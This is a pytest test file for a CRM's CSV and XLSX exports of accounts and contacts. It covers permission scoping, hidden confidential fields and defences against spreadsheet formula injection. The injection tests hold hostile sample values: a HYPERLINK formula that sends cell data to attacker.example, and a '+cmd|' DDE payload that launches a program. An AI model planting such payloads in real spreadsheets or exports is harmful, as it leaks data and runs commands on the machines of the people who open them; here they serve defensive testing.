"""Exports of account and contact lists: the reader's rows (scope, filters, saved view), fields
above their clearance empty with the header marked, custom fields under their labels, CSV for
Excel and XLSX, and an export that imports again."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest

from loopcrm.modules.customers import service as customers
from loopcrm.modules.customers.models import RecordKind
from loopcrm.modules.customers.schemas import (
    AccountCreate,
    ContactCreate,
    CustomFieldCreate,
    ListQuery,
    SavedViewCreate,
    TagCreate,
)
from loopcrm.modules.customers.service import exports
from loopcrm.modules.customers.service.exports import ExportFormat
from loopcrm.platform.errors import ValidationFailed
from loopcrm.platform.i18n import translator


def exported_csv(uow_factory, actor, kind=RecordKind.CONTACT, query=None, locale="en", columns=None):
    download = exports.export_records(
        uow_factory(),
        actor,
        kind,
        query or ListQuery(),
        ExportFormat.CSV,
        translator(locale),
        columns=columns,
    )
    content = b"".join(download.chunks)
    assert content.startswith(b"\xef\xbb\xbf")
    assert download.media_type == "text/csv; charset=utf-8"
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def column(rows: list[list[str]], header: str) -> list[str]:
    index = rows[0].index(header)
    return [row[index] for row in rows[1:]]


@pytest.fixture
def people(uow_factory, make_person):
    admin = make_person("admin")
    rep = make_person("sales_rep", name="Rep One")
    other = make_person("sales_rep", name="Rep Two")
    customers.create_custom_field(
        uow_factory(),
        admin.actor,
        CustomFieldCreate.model_validate(
            {
                "record_kind": "contact",
                "key": "level",
                "label": "客户等级",
                "label_en": "Level",
                "kind": "select",
                "options": [{"value": "gold", "label": "金牌", "label_en": "Gold"}],
            }
        ),
    )
    customers.create_custom_field(
        uow_factory(),
        admin.actor,
        CustomFieldCreate.model_validate(
            {
                "record_kind": "contact",
                "key": "salary",
                "label": "薪资",
                "label_en": "Salary",
                "kind": "money",
                "security_level": "confidential",
            }
        ),
    )
    vip = customers.create_tag(uow_factory(), admin.actor, TagCreate(name="VIP"))
    for actor, family, given, email in (
        (rep.actor, "王", "芳", "wang@x.cn"),
        (rep.actor, "Doe", "Jane", "jane@x.com"),
        (other.actor, "李", "雷", "li@x.cn"),
    ):
        customers.create_contact(
            uow_factory(),
            actor,
            ContactCreate.model_validate(
                {
                    "family_name": family,
                    "given_name": given,
                    "emails": [{"address": email}],
                    "phones": [{"number": "13812345678"}],
                    "birthday": "1990-05-17",
                    "email_opt_in": family == "王",
                    "tag_ids": [vip.id] if family == "王" else [],
                    "custom_fields": {"level": "gold", "salary": "12000"} if family == "王" else {},
                }
            ),
        )
    return admin, rep, other


def test_an_export_has_exactly_the_readers_rows(uow_factory, people):
    admin, rep, other = people

    assert column(exported_csv(uow_factory, rep.actor, query=ListQuery(sort="full_name")), "Full name") == [
        "Jane Doe",
        "王芳",
    ]
    assert column(exported_csv(uow_factory, other.actor), "Full name") == ["李雷"]
    assert sorted(column(exported_csv(uow_factory, admin.actor), "Full name")) == ["Jane Doe", "李雷", "王芳"]
    filtered = exported_csv(uow_factory, admin.actor, query=ListQuery(q="wang"))
    assert column(filtered, "Full name") == ["王芳"]


def test_fields_above_the_clearance_are_empty_and_their_header_says_so(uow_factory, people):
    admin, rep, _ = people

    rows = exported_csv(uow_factory, rep.actor, query=ListQuery(q="王芳"))
    by_header = dict(zip(rows[0], rows[1], strict=True))

    assert by_header["Birthday (hidden)"] == ""
    assert by_header["Salary (hidden)"] == ""
    assert by_header["Phones"] == "+8613812345678"  # internal: a rep may see it
    assert by_header["Level"] == "Gold"
    assert by_header["Tags"] == "VIP"
    assert by_header["Email marketing allowed"] == "Yes"
    assert by_header["Owner"] == "Rep One"
    admin_rows = exported_csv(uow_factory, admin.actor, query=ListQuery(q="王芳"), locale="zh_CN")
    admin_view = dict(zip(admin_rows[0], admin_rows[1], strict=True))
    assert (admin_view["薪资"], admin_view["客户等级"], admin_view["生日"]) == ("12000", "金牌", "1990-05-17")


def test_a_public_clearance_reader_gets_no_phone_or_email(uow_factory, people, make_person):
    reader = make_person("read_only")

    rows = exported_csv(uow_factory, reader.actor, columns=["full_name", "phones", "emails"])

    assert rows[0] == ["Full name", "Phones (hidden)", "Emails (hidden)"]
    assert sorted(rows[1:]) == [["Jane Doe", "", ""], ["李雷", "", ""], ["王芳", "", ""]]


def test_a_saved_views_columns_and_filters_shape_the_export(uow_factory, people):
    _, rep, _ = people
    view = customers.save_view(
        uow_factory(),
        rep.actor,
        SavedViewCreate(
            record_kind="contact",
            name="Gold",
            filters=["custom_fields.level:eq:gold"],
            columns=["full_name", "tag"],
        ),
    )

    rows = exported_csv(uow_factory, rep.actor, query=ListQuery(view_id=view.id))

    assert rows == [["Full name", "Tags"], ["王芳", "VIP"]]


def test_a_refused_query_fails_before_the_download_starts(uow_factory, people):
    _, rep, _ = people

    with pytest.raises(ValidationFailed) as refused:
        exports.export_records(
            uow_factory(),
            rep.actor,
            RecordKind.CONTACT,
            ListQuery(filters=["birthday:eq:1990-05-17"]),
            ExportFormat.CSV,
            translator("en"),
        )

    assert refused.value.errors[0].code == "field_not_allowed"


LINK = '=HYPERLINK("http://attacker.example/?x="&B2,"Click to verify")'


@pytest.fixture
def linked_account(uow_factory, people):
    """An account whose name is a formula that would send a cell away, with two mobile phones."""
    admin, _, _ = people
    customers.create_account(
        uow_factory(),
        admin.actor,
        AccountCreate.model_validate(
            {
                "name": LINK,
                "industry": "finance",
                "phones": [{"number": "13812345678"}, {"number": "13900001111"}],
            }
        ),
    )
    return admin


def test_an_xlsx_export_writes_every_text_as_a_text_cell_without_an_apostrophe(uow_factory, linked_account):
    download = exports.export_records(
        uow_factory(),
        linked_account.actor,
        RecordKind.ACCOUNT,
        ListQuery(),
        ExportFormat.XLSX,
        translator("zh_CN"),
    )
    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(download.chunks)))

    sheet = workbook.active
    rows = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert download.file_name.startswith("accounts-") and download.file_name.endswith(".xlsx")
    assert rows[0][:4] == ["客户名称", "英文名称", "统一社会信用代码", "行业"]
    name = sheet.cell(row=2, column=1)
    assert (name.value, name.data_type) == (LINK, "s")  # shown as it was typed, never run
    assert rows[1][3] == "金融业"
    phones = sheet.cell(row=2, column=rows[0].index("电话") + 1)
    assert (phones.value, phones.data_type) == ("+8613812345678; +8613900001111", "s")


def test_a_csv_export_quotes_a_formula_but_keeps_phone_numbers_exact(uow_factory, linked_account):
    rows = exported_csv(uow_factory, linked_account.actor, kind=RecordKind.ACCOUNT)

    assert column(rows, "Account name") == ["'" + LINK]
    assert column(rows, "Phones") == ["+8613812345678; +8613900001111"]


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("+8613812345678", "+8613812345678"),  # E.164: digits only, nothing to run
        ("+8613812345678; +8613900001111", "+8613812345678; +8613900001111"),
        ("-12.5", "-12.5"),  # a plain number stays the number it is
        ("13812345678", "13812345678"),
        ('=HYPERLINK("http://x.example")', '\'=HYPERLINK("http://x.example")'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-1-2", "'-1-2"),  # a spreadsheet would compute -3
        ("+86 138 1234 5678", "'+86 138 1234 5678"),  # not E.164: the space-separated form
        ("+8613812345678;+1", "'+8613812345678;+1"),  # not the phones column's separator
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("王芳", "王芳"),
    ],
)
def test_csv_text_gets_the_owasp_apostrophe_only_where_a_formula_could_start(text, written):
    assert exports.spreadsheet_text(text) == written


def test_many_pages_stream_in_order(uow_factory, make_person, monkeypatch):
    monkeypatch.setattr(exports, "MAX_PAGE_SIZE", 2)  # pages of two rows instead of 500
    admin = make_person("admin")
    for number in range(1, 6):
        customers.create_account(uow_factory(), admin.actor, AccountCreate(name=f"公司{number:04d}"))

    download = exports.export_records(
        uow_factory(),
        admin.actor,
        RecordKind.ACCOUNT,
        ListQuery(sort="name"),
        ExportFormat.CSV,
        translator("en"),
    )
    chunks = list(download.chunks)

    rows = list(csv.reader(io.StringIO(b"".join(chunks).decode("utf-8-sig"))))
    assert len(chunks) == 1 + 3  # the header, then one chunk per page
    assert column(rows, "Account name") == [f"公司{number:04d}" for number in range(1, 6)]
